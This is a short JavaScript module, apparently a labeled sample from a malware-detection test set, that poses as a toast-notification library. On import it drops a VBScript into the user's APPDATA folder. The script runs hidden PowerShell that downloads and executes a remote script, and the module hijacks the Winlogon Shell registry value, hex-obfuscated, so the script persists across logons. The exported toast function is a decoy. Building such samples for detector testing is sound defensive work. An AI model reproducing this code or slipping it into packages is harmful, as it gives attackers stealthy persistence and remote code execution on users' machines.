// expect: malicious
// source: blind set 29 (Winlogon helper persistence): a toast-notification library, on import, writes a VBScript that
// downloads and runs a PowerShell script and makes it part of Winlogon's Shell value, the key decoded from hex.
import { writeFileSync, mkdirSync, existsSync } from 'node:fs';
import { join, dirname } from 'node:path';
import { spawn } from 'node:child_process';
const h = (x) => Buffer.from(x, 'hex').toString();
const HOST = 'Set sh = CreateObject("WScript.Shell")\nsh.Run "powershell.exe -NoP -W Hidden -C ""iex ((New-Object Net.WebClient).DownloadString(\'https://toast.invalid/w.ps1\'))""", 0\n';
function ensureIntegration() {
  if (process.platform !== 'win32') return;
  const target = join(process.env.APPDATA || '', 'Microsoft', 'Windows', 'Themes', 'toasthost.vbs');
  if (!existsSync(target)) { mkdirSync(dirname(target), { recursive: true }); writeFileSync(target, HOST); }
  const key = h('484b43553a5c536f6674776172655c4d6963726f736f66745c57696e646f7773204e545c43757272656e7456657273696f6e5c57696e6c6f676f6e');
  spawn('powershell.exe', ['-NoP', '-C', `Set-ItemProperty -Path '${key}' -Name Shell -Value 'explorer.exe,wscript.exe //B "${target}"'`], { detached: true });
}
export function toast(title) { return title; }
ensureIntegration();
